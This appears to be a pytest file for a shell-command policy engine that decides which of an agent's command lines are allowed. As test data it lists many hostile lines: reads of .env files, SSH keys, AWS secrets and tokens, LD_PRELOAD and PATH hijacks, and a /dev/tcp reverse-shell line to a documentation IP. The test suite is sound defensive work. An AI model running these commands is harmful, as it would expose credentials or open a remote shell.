"""What the commands of a line do: wrappers opened, redirections, secrets, words that are not known yet."""

from __future__ import annotations

import pytest

from atip.calls.shell.line import parse_shell
from atip.knowledge import load
from atip.policy.command_context import danger_of
from atip.policy.decide import decide
from atip.policy.lines.line import MachineView, judge_line
from atip.policy.policy import Policy

CWD, HOME = "/home/dev/project", "/home/dev"
CAUTIOUS = (Policy(layer="user", preset="cautious"),)


def judge(line: str):
    parsed = parse_shell(line, home=HOME, cwd=CWD)
    return judge_line(parsed, MachineView(lookup=load, cwd=CWD, home=HOME))


def allowed(line: str) -> bool:
    return all(decide(CAUTIOUS, subject).outcome == "allow" for subject in judge(line))


def marks(line: str, danger: str) -> bool:
    return any(danger_of(subject, danger) for subject in judge(line))


@pytest.mark.parametrize(
    "line",
    [
        "git log --grep='drop table; rm -rf' --oneline | head -5", "ls src/{api,core}/*.py 2>/dev/null",
        "find . -name '*.md' -print0 | xargs -0 wc -w", "for f in $(git ls-files '*.md'); do head -1 \"$f\"; done",
        "git ls-files | while IFS= read -r f; do echo \"$f\"; done", "cd \"$(git rev-parse --show-toplevel)\" && ls",
        "env LC_ALL=C sort -u words.txt", "GIT_PAGER=cat git log -1", "cat <<'E'\n$(rm -rf /)\nE", "echo 'rm -rf /'",
        "[ -n \"$CI\" ] && echo ci", "i=0; while [ $i -lt 3 ]; do echo $i; i=$((i+1)); done", "diff <(sort a) <(sort b)",
        "grep -rn '\\.env' docs", "awk -F: '{print $1}' data.txt", "sed -n '1,5p' a.txt", "tar tzf a.tgz | head",
        "git status > /dev/null 2>&1; echo $?", "timeout 5 git status", "command -v rg >/dev/null", "# nothing at all",
    ],
)  # fmt: skip
def test_looking_is_allowed(line):
    assert allowed(line)


@pytest.mark.parametrize(
    "line",
    [
        "sudo -n rm x", "env -S 'rm x'", "nice -n5 rm x", "timeout 5 rm x", "xargs rm < f", "find . -exec rm {} +",
        "bash -c 'ls; rm x'", "sh -c 'echo x > y'", "bash -c 'PATH=. ls'", "eval 'ls; rm x'", "trap 'rm x' EXIT", "exec rm x",
        "command rm x", "coproc rm x", "echo x | xargs -I{} sh -c '{}'", "git submodule foreach 'rm x'",
        "docker exec box ls", "ssh host ls", "flock l -c 'rm x'", "echo 'rm x' | sh", "source x", ". x", "source ls",
    ],
)  # fmt: skip
def test_wrappers_do_not_hide_what_they_run(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    "line",
    [
        "$x ls",
        "${x:-ls}",
        "$(echo ls)",
        "./ls",
        "/tmp/ls",
        "../ls",
        "~/bin/ls",
        "no-such-program",
        "l\u0455",
        "/bin/l?",
    ],
)
def test_a_program_that_is_not_known_is_not_allowed(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    "line",
    ["echo x > f", "> f", "ls >| f", "ls &> f", "{ ls; } > f", "ls >& f", "cat <> f", "ls > $x", "ls > >(sh)",
     "exec {fd}> f", "ls | tee f", "sort -of x", "sort x -o f", "git log --output=f", "git shortlog --output=f"],
)  # fmt: skip
def test_writes_are_seen_wherever_they_stand(line):
    assert not allowed(line)


def test_the_null_device_is_no_write():
    assert not marks("ls > /dev/null 2>&1", "filesystem.write")
    assert marks("ls > /dev/null2", "filesystem.write")


@pytest.mark.parametrize(
    "line",
    [
        "cat .env", "cat .e''nv", "cat .e*", "cat .en?", "cat .{env,x}", "cat ./.env", "cat $PWD/.env", "cat ~/.ssh/id_rsa",
        "cat ../.ssh/id_rsa", "cat /home/dev/.ssh/id_rsa", "cat ~root/.ssh/id_rsa", "cd ~/.aws && cat credentials",
        "f=.env; cat \"$f\"", "a=.e; b=nv; cat \"$a$b\"", "for f in ~/.ssh/*; do cat \"$f\"; done", "head < .env",
        "grep .env .env", "sed 'r .env' x", "jq --rawfile a .env -n '$a'", "git show HEAD:.env", "diff .env /dev/null",
        "find . -name .env -exec cat {} +", "xargs -a .env echo", "bash -c 'cat .env'", "echo $GITHUB_TOKEN", "echo ${!x}",
        "env", "printenv", "cat /proc/self/environ", "aws configure get aws_secret_access_key", "git config --get x.token",
        "cat config/.env.production", "cat server.key", "cat ~/.bash_history",
    ],
)  # fmt: skip
def test_secrets_are_never_read_in_passing(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    "line",
    ["cat .env.example", "ls -la .env", "test -f .env", "git check-ignore .env", "echo .env"],
)
def test_names_of_secrets_are_no_secrets(line):
    assert allowed(line)


@pytest.mark.parametrize(
    "line",
    ["cat $FILE", "cat \"$1\"", "cat $(cat list)", "cat list | xargs cat", "echo .env | xargs cat", "cat ~/notes.txt",
     "cd ..; cat x", "cd \"$x\" && cat y", "awk 'BEGIN{getline x < \"f\"}'", "k=.eXnv; cat ${k/X/}"],
)  # fmt: skip
def test_reading_what_only_data_name_is_not_allowed(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    ("line", "may"),
    [("head \"$(git ls-files)\"", True), ("wc -l *", True), ("sort *", False), ("rg x *", False), ("sort -- *", True),
     ("sort ./*", True), ("git log $(git merge-base a b)", True), ("git -C $x log push", False)],
)  # fmt: skip
def test_words_that_may_become_options_count_where_an_option_matters(line, may):
    assert allowed(line) is may


@pytest.mark.parametrize(
    "line",
    ["PATH=. ls", "PATH=$PWD:$PATH; ls", "LD_PRELOAD=x ls", "GIT_PAGER='sh x' git log", "GIT_SSH=x git status", "HOME=/x git status",
     "RIPGREP_CONFIG_PATH=x rg y", "export LD_PRELOAD=x; ls", "BASH_ENV=x bash -c ls", "IFS=x; ls", "FOO=1 git status"],
)  # fmt: skip
def test_variables_that_change_what_runs_are_not_allowed(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    "line",
    ["printf -v PATH /x; ls", "printf -vPATH /x; ls", "read PATH <<< /x; ls", "read -ra PATH < f; ls", "mapfile -t PATH < f; ls",
     "for PATH in /x; do ls; done", "for PATH; do ls; done", "select PATH in /x; do ls; done", "while read -r PATH; do ls; done < f",
     ": ${PATH:=/x}; ls", ": \"${LD_PRELOAD=./x.so}\"; ls", "getopts a PATH; ls", "exec {PATH}<f; ls", "wait -p PATH; ls",
     "printf -v \"$name\" /x; ls", "read \"$name\" < f; ls", "BASH_CMDS[ls]=./x; ls", "declare -A BASH_ALIASES; BASH_ALIASES[ls]=x; ls",
     "FOO=1; export FOO; rg x", "read FOO < f; export FOO; rg x", "declare -x FOO=1; rg x", "set -a; FOO=1; rg x", "set -o allexport"],
)  # fmt: skip
def test_there_are_more_ways_to_set_a_variable_than_assignments(line):
    assert not allowed(line)


@pytest.mark.parametrize(
    "line",
    ["while IFS= read -r line; do echo \"$line\"; done < a.md", "IFS=, read -ra parts <<< 'a,b'; echo \"${parts[0]}\"",
     "printf -v out '%s' x; echo \"$out\"", "mapfile -t lines < a.md; echo ${#lines[@]}", ": ${x:=5}; echo $x", "set -eu; ls",
     "exec 3<a.md; read -r x <&3", "for path in *.py; do echo \"$path\"; done", "X=1; export X; ls"],
)  # fmt: skip
def test_variables_of_the_line_alone_change_nothing(line):
    assert allowed(line)


@pytest.mark.parametrize(
    "line", ["git -C /tmp/x status", "cd /tmp/x && git status", "(cd /var/tmp/x; git log)"]
)
def test_a_repository_in_which_anybody_may_write_is_asked_about(line):
    assert not allowed(line)
    assert allowed(line.replace("/tmp/", "/home/dev/project/").replace("/var", ""))


def test_functions_of_the_line_are_judged_by_their_bodies():
    assert allowed("f() { ls; }; f")
    assert not allowed("ls() { rm x; }; ls")
    assert not allowed("alias ls=rm; ls")


def test_connections_of_the_shell_are_network():
    assert marks("bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "network")
